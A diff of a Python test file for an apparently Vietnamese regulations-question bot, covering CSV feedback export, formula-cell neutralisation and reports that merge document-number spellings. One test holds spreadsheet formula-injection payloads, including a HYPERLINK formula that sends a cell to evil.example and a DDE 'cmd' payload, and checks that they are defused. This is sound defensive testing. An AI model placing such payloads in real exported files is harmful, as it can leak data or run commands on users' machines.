@@ -46,8 +46,13 @@ def test_feedback_is_stored_with_its_exchange_and_exported(tmp_path):
 
     out = io.StringIO()
     write_feedback(entries, out, "csv")
-    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
-    assert len(rows) == 2 and {r["comment"] for r in rows} == {"Thiếu số liệu năm 2019", ""}
+    assert out.getvalue().startswith("\ufeffThời điểm,")  # Excel reads UTF-8 only after a BOM
+    rows = list(csv.DictReader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))
+    assert len(rows) == 2 and {r["Góp ý"] for r in rows} == {"Thiếu số liệu năm 2019", ""}
+    assert {r["Có thông tin"] for r in rows} == {"có"} and {r["Đánh giá (1 = 👍, -1 = 👎)"] for r in rows} == {
+        "1",
+        "-1",
+    }
     out = io.StringIO()
     write_feedback(entries, out, "json")
     assert [json.loads(line)["rating"] for line in out.getvalue().splitlines()] == [e.rating for e in entries]
@@ -180,8 +185,14 @@ def test_systemd_units_verify(tmp_path):
     assert "OnCalendar=" in timer and "Persistent=true" in timer
     assert "-m ingest" in (ROOT / "deploy" / "tro-ly-qcdc-ingest.service").read_text()
     # the environment file names only variables the project documents
-    documented = {line.split("=")[0].lstrip("# ") for line in (ROOT / ".env.example").read_text().splitlines() if "=" in line}
-    used = {line.split("=")[0] for line in (ROOT / "deploy" / "env.example").read_text().splitlines() if "=" in line and not line.startswith("#")}
+    documented = {
+        line.split("=")[0].lstrip("# ") for line in (ROOT / ".env.example").read_text().splitlines() if "=" in line
+    }
+    used = {
+        line.split("=")[0]
+        for line in (ROOT / "deploy" / "env.example").read_text().splitlines()
+        if "=" in line and not line.startswith("#")
+    }
     assert used <= documented, used - documented
 
 
@@ -198,3 +209,112 @@ def test_guide_in_vietnamese_is_linked_and_followed_by_help():
         assert part in HELP and part in guide
     for task in ("python -m bot health", "python -m bot feedback", "python -m bot gaps", "systemctl", "Sao lưu"):
         assert task in guide
+
+
+# --- issue 32: the export in a spreadsheet, /thieu's merged documents and 👎 questions --------------
+
+
+def _exported(tmp_path, texts: list[str]) -> list[dict[str, str]]:
+    journal = Journal(tmp_path / "x.sqlite3")
+    for i, text in enumerate(texts):
+        journal.record(exchange(f"{i:012}", text, sources=(text,)))
+        journal.comment(-100777, f"{i:012}", 424242, text)
+    out = io.StringIO()
+    write_feedback(journal.feedback(), out, "csv")
+    assert out.getvalue().startswith("\ufeff")
+    return list(csv.DictReader(io.StringIO(out.getvalue().removeprefix("\ufeff"), newline="")))
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "＝", "  ="])
+def test_feedback_csv_formula_cells_are_neutralised(tmp_path, trigger):
+    payloads = ['HYPERLINK("http://evil.example/?q="&A1,"Bấm")', "cmd|' /C calc'!A0", "1+2", "SUM(1;2)"]
+    rows = _exported(tmp_path, [trigger + p for p in payloads])
+    for row in rows:
+        for column in ("Góp ý", "Câu hỏi", "Nguồn"):
+            assert row[column].startswith("'" + trigger), (column, row[column])
+            assert row[column][1:] in {trigger + p for p in payloads}  # the text itself is kept whole
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.text(alphabet=st.sampled_from("=+-@\t\r ＝aă,\"'\n1"), min_size=1, max_size=12))
+def test_feedback_csv_never_starts_a_cell_with_a_formula(text):
+    from bot.reports import FORMULA_TRIGGERS, spreadsheet_safe
+
+    cell = spreadsheet_safe(text)
+    assert not cell.lstrip(" ").startswith(FORMULA_TRIGGERS)
+    assert cell in (text, "'" + text)
+
+
+def test_feedback_csv_is_for_excel_local_times_and_vietnamese_headers(tmp_path):
+    (row,) = _exported(tmp_path, ["Thu ngân sách?"])
+    assert list(row)[:4] == ["Thời điểm", "Đánh giá (1 = 👍, -1 = 👎)", "Góp ý", "Câu hỏi"]
+    entry = Journal(tmp_path / "x.sqlite3").feedback()[0]
+    assert row["Thời điểm"] == entry.at.astimezone().strftime("%Y-%m-%d %H:%M:%S")
+    assert row["Đánh giá (1 = 👍, -1 = 👎)"] == "-1" and row["Có thông tin"] == "có"
+
+
+@pytest.mark.parametrize(
+    ("spellings", "expected"),
+    [
+        ([("30", "Chỉ thị"), ("30-CT/TW", "Chỉ thị")], [("30-CT/TW", 2)]),
+        ([("30-CT/TW", None), ("30", "Chỉ thị"), ("30/CT-TW", "Chỉ thị"), ("030", "Chỉ thị")], [("30-CT/TW", 4)]),
+        ([("120", "Kết luận"), ("120-KL/TW", "Kết luận"), ("120-kl/tw", "Kết luận")], [("120-KL/TW", 3)]),
+        ([("30", "Chỉ thị"), ("30", "Nghị quyết"), ("30-CT/TW", "Chỉ thị")], [("30-CT/TW", 2), ("30", 1)]),
+        (
+            [("30/2020/QĐ-TTg", "Quyết định"), ("30/2021/QĐ-TTg", "Quyết định")],
+            [("30/2020/QĐ-TTG", 1), ("30/2021/QĐ-TTG", 1)],
+        ),
+        ([("05-CT/TW", None), ("5", "Chỉ thị")], [("05-CT/TW", 2)]),
+    ],
+)
+def test_gaps_merge_chi_thi_30_and_30_ct_tw_by_number(tmp_path, spellings, expected):
+    journal = Journal(tmp_path / "f.sqlite3")
+    for i, (ref, kind) in enumerate(spellings):
+        journal.record(exchange(f"{i:012}", f"{kind} {ref}", asked=(AskedDocument(ref, kind, held=False),), user=i))
+    documents = gap_report(journal).documents
+    assert sorted((d.ref, d.asked) for d in documents) == sorted(expected)
+    assert sum(d.users for d in documents) == len(spellings)  # one person per question here
+
+
+def test_gaps_list_questions_marked_wrong_grouped_by_topic(tmp_path):
+    journal = Journal(tmp_path / "f.sqlite3")
+    asked = ["Ban thanh tra nhân dân có mấy người?", "ban thanh tra nhan dan co may nguoi", "Ai bầu trưởng thôn?",
+             "Ban thanh tra nhân dân có mấy người?"]  # fmt: skip
+    for i, question in enumerate(asked):
+        journal.record(exchange(f"{i:012}", question, user=i))
+        journal.rate(-100777, f"{i:012}", i, -1)
+    journal.comment(-100777, f"{0:012}", 0, "Sai: luật nói từ 3 đến 5 người")
+    journal.record(exchange("9" * 12, "Câu được khen", user=9))
+    journal.rate(-100777, "9" * 12, 9, 1)
+    journal.record(exchange("8" * 12, "Đổi ý", user=8))
+    journal.rate(-100777, "8" * 12, 8, -1)
+    journal.rate(-100777, "8" * 12, 8, 1)  # 👎 then 👍: not wrong any more
+    journal.record(exchange("7" * 12, "Giá vàng?", found=False, user=7))
+    journal.rate(-100777, "7" * 12, 7, -1)  # already listed as unanswered
+
+    report = gap_report(journal)
+    assert [(t.question, t.asked, len(t.users)) for t in report.wrong] == [
+        ("Ban thanh tra nhân dân có mấy người?", 3, 3),
+        ("Ai bầu trưởng thôn?", 1, 1),
+    ]
+    assert report.wrong_questions == 4 and report.wrong[0].comments == ["Sai: luật nói từ 3 đến 5 người"]
+    assert [t.question for t in report.topics] == ["Giá vàng?"]
+    text = gaps_report(report).text()
+    assert "Câu hỏi bị chấm 👎, trả lời chưa đúng (4 lượt, 2 chủ đề)" in text
+    assert "“Ban thanh tra nhân dân có mấy người?”: 3 lần 👎, 3 người" in text and "góp ý: “Sai: luật" in text
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.lists(st.sampled_from([("30", "Chỉ thị"), ("30-CT/TW", None), ("30/ct-tw", "Chỉ thị"), ("30", "Nghị quyết"),
+                                 ("30-NQ/TW", "Nghị quyết"), ("30/2020/QĐ-TTg", None), ("999", None), ("x", None)]),
+                max_size=12))  # fmt: skip
+def test_gaps_merging_keeps_every_question(spellings):
+    from bot.gaps import missing_documents
+    from bot.journal import MissingAsk
+
+    at = datetime.now(UTC)
+    asks = [MissingAsk(ref, kind, str(i % 4), at, False) for i, (ref, kind) in enumerate(spellings)]
+    documents = missing_documents(asks)
+    assert sum(d.asked for d in documents) == len(asks)
+    assert len({(d.ref, d.type) for d in documents}) == len(documents)  # each document once
+    assert sum(d.ref.startswith("30-CT") or (d.ref == "30" and d.type == "Chỉ thị") for d in documents) <= 1
